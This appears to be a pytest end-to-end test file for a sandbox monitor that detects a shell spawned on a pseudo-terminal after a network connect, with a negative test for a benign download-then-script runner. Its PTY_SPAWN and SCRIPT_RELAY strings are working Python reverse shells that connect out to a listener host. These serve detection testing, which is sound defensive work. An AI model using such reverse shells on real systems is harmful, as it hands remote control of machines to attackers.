"""A shell on a pseudo-terminal after a connect: the connecting process relays between its
socket and a pty (or pipes), and the shell - its child or a grandchild - has a terminal for
its standard streams, not the socket. Caught by what the lineage does within seconds of the
connect, not by the shell's streams or a one-liner's text; benign work that connects and
then runs shell commands stays silent.

Each scenario runs `sandtrace run` as a real process, its command in the sandbox's network
namespace, against a real listener on the outside host.
"""

from __future__ import annotations

import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.conftest import NetNS
from tests.e2e.test_evasion import CONNECT_THEN_SHELL, by_rule
from tests.e2e.test_incidents import Run, expect, sandtrace_run
from tests.e2e.testhosts import PYTHON

# The classic upgrade done from a file: the socket on python's standard streams, the shell
# on a pty python relays (pty.spawn copies between fd 0/1 and the pty's master).
PTY_SPAWN = """\
import os, pty, socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")
"""

# script(1) makes the pty: its child runs 'sh -c /bin/sh', and the interactive shell is a
# grandchild or great-grandchild of the connecting process. The relay is through pipes, so
# nothing the connecting process starts has the socket on a standard stream.
SCRIPT_RELAY = """\
import os, socket, subprocess, sys, threading
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)
p = subprocess.Popen(["script", "-qc", "/bin/sh", "/dev/null"],
                     stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
def out():
    for chunk in iter(lambda: p.stdout.read1(4096), b""):
        s.sendall(chunk)
threading.Thread(target=out, daemon=True).start()
for chunk in iter(lambda: s.recv(4096), b""):
    p.stdin.write(chunk)
    p.stdin.flush()
p.stdin.close()
p.wait()
"""


def shells(run: Run) -> list[dict[str, Any]]:
    """The interactive shells' exec events: sh with no operand."""
    return [
        e
        for e in run.events
        if e["kind"] == "exec" and e["argv"][:1] in (["sh"], ["/bin/sh"]) and len(e["argv"]) == 1
    ]


def caught(run: Run, shell: dict[str, Any]) -> list[dict[str, Any]]:
    pid = shell["process"]["pid"]
    return [a for a in by_rule(run, CONNECT_THEN_SHELL) if a["process"]["pid"] == pid]


def test_pty_spawn_from_a_script_file_after_a_connect(testnet: NetNS, work: Path) -> None:
    (work / "helper.py").write_text(PTY_SPAWN)
    catcher = testnet.shell_catcher(4460, "sleep 1; exit", hangup_s=3)
    try:
        run = sandtrace_run(testnet, f"{PYTHON} helper.py {testnet.outside_addr} 4460; true", work)
    finally:
        catcher.kill()
        catcher.wait()
    [shell] = shells(run)
    assert shell["stdio"][0] == "tty", shell["stdio"]  # not a socket: the stdio rules miss it
    [python] = [e for e in run.events if e["kind"] == "exec" and e["argv"][1:2] == ["helper.py"]]
    assert shell["process"]["ancestry"][0]["pid"] == python["process"]["pid"]
    expect(run, "pty.spawn after a connect", "connect_sequences")
    [alert] = caught(run, shell)
    assert [e["kind"] for e in alert["events"]] == ["connect", "exec"]
    assert alert["events"][0]["process"]["pid"] == python["process"]["pid"]
    assert alert["events"][0]["daddr"] == testnet.outside_addr


def test_script_pty_shell_a_grandchild_of_the_connecting_process(
    testnet: NetNS, work: Path
) -> None:
    (work / "bridge.py").write_text(SCRIPT_RELAY)
    catcher = testnet.shell_catcher(4461, "sleep 1; exit", hangup_s=3)
    try:
        run = sandtrace_run(testnet, f"{PYTHON} bridge.py {testnet.outside_addr} 4461; true", work)
    finally:
        catcher.kill()
        catcher.wait()
    [python] = [e for e in run.events if e["kind"] == "exec" and e["argv"][1:2] == ["bridge.py"]]
    [shell] = shells(run)
    lineage = [a["pid"] for a in shell["process"]["ancestry"]]
    assert python["process"]["pid"] in lineage[1:], lineage  # below script, not its child
    assert all(kind in ("tty", "pipe") for kind in {s.partition(":")[0] for s in shell["stdio"]})
    expect(run, "script -qc /bin/sh after a connect", "connect_sequences")
    assert caught(run, shell), sorted(run.themes())


@pytest.fixture
def index(testnet: NetNS, work: Path) -> Iterator[str]:
    """A package index on the outside host (an HTTP server on an internal address)."""
    root = work.parent / f"{work.name}-index"
    (root / "simple" / "calc").mkdir(parents=True)
    (root / "simple" / "calc" / "index.html").write_text("<a href='calc-1.0.tar.gz'>calc</a>\n")
    server = subprocess.Popen(
        testnet.in_outside(
            PYTHON, "-m", "http.server", "-b", testnet.outside_addr, "8081", "-d", str(root)
        ),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 10
        while (testnet.outside_addr, 8081) not in testnet.listening_outside():
            assert time.monotonic() < deadline, "index did not start"
            time.sleep(0.05)
        yield f"http://{testnet.outside_addr}:8081/simple/calc/"
    finally:
        server.kill()
        server.wait()
        subprocess.run(["rm", "-rf", str(root)], check=False)


RUNNER = """\
import subprocess, sys, urllib.request
page = urllib.request.urlopen(sys.argv[1], timeout=5).read()
assert b"calc" in page
subprocess.run(["sh", "-c", "echo fetched; test -d scripts"], check=True)
subprocess.run(["bash", "./scripts/check.sh"], check=True)
"""


def test_a_runner_that_downloads_then_runs_shell_commands_is_silent(
    testnet: NetNS, work: Path, index: str
) -> None:
    # Downloads from an index on the internal network (not loopback: it counts as remote),
    # then runs 'sh -c' and a project script with bash: shells, but none interactive.
    (work / "scripts").mkdir()
    (work / "scripts" / "check.sh").write_text("#!/bin/sh\necho checked\n")
    (work / "runner.py").write_text(RUNNER)
    run = sandtrace_run(testnet, f"{PYTHON} runner.py {index}", work)
    assert run.returncode == 0, run.stderr
    [runner] = [e for e in run.events if e["kind"] == "exec" and e["argv"][1:2] == ["runner.py"]]
    connects = [
        e
        for e in run.events
        if e["kind"] == "connect" and e["process"]["pid"] == runner["process"]["pid"]
    ]
    assert any(e["daddr"] == testnet.outside_addr for e in connects), connects
    assert [e for e in run.events if e["kind"] == "exec" and e["argv"][:2] == ["sh", "-c"]]
    assert by_rule(run, CONNECT_THEN_SHELL) == []
    loud = [a for a in run.alerts if a["level"] in {"medium", "high", "critical"}]
    assert loud == [], [(a["title"], a["process"]["argv"]) for a in loud]
